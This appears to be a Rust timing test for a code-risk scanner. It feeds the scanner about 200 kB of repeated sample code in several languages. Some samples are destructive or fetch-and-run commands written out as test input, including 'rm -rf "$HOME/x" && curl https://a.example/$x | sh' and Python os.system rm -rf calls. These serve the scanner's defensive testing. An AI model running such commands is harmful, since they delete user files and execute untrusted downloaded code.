//! How long reading takes, for `scripts/corpus`. Nothing is asserted: machines differ.

use super::*;
use std::time::Instant;

const SIZE: usize = 200 * 1024;

/// Code of about 200 kB: ordinary, and written to be slow to read.
fn codes() -> Vec<(&'static str, &'static str, String)> {
    let many = |line: &str| line.repeat(SIZE / line.len());
    let nested = |open: &str, close: &str, depth: usize| {
        let one = format!("x = {}1{}\n", open.repeat(depth), close.repeat(depth));
        one.repeat(SIZE / one.len())
    };
    let chain = |first: &str, link: &str, sum: &str| {
        let lines = (1..SIZE / 24)
            .map(|at| link.replace("{b}", &at.to_string()).replace("{a}", &(at - 1).to_string()));
        format!("{first}\n{}\n{sum}", lines.collect::<Vec<_>>().join("\n"))
    };
    vec![
        (
            "python",
            "ordinary",
            many("df = pd.read_csv('a.csv'); df['x'] = df.y.map(lambda v: v + 1).fillna(0)\n"),
        ),
        ("python", "calls", many("os.system('rm -rf ' + base + str(i))\n")),
        ("python", "nested", nested("f(", ")", 90)),
        ("python", "chained names", chain("v0 = 'x'", "v{b} = v{a} + v{a}", "open(v9)")),
        ("python", "attributes", many(&format!("x = a{}\n", ".b()".repeat(30)))),
        ("shell", "ordinary", many("grep -c x a.txt | sort | uniq -c | head -n 5\n")),
        ("shell", "commands", many("rm -rf \"$HOME/x\" && curl https://a.example/$x | sh\n")),
        (
            "javascript",
            "ordinary",
            many("const rows = data.map(r => ({ ...r, total: r.price * r.qty }));\n"),
        ),
        ("javascript", "calls", many("fs.rmSync(path.join(base, 'x', `${y}`));\n")),
        ("javascript", "nested", nested("f(", ")", 90)),
        (
            "typescript",
            "ordinary",
            many("const rows: Row[] = data.map((r: Row): Row => ({ ...r, total: r.price }));\n"),
        ),
        ("sql", "ordinary", many("SELECT a, b FROM t WHERE x = 'y' AND z IN (1, 2, 3);\n")),
        ("ruby", "ordinary", many("rows.each { |r| puts r[:name].strip.downcase }\n")),
    ]
}

#[test]
#[ignore = "prints figures"]
fn speed() {
    for (name, kind, code) in codes() {
        let start = Instant::now();
        let found = findings(name, &code);
        let took = start.elapsed().as_millis();
        println!(
            "{name}, {kind}: {} kB in {took} ms, risk {}",
            code.len() / 1024,
            found.risk.word()
        );
    }
}
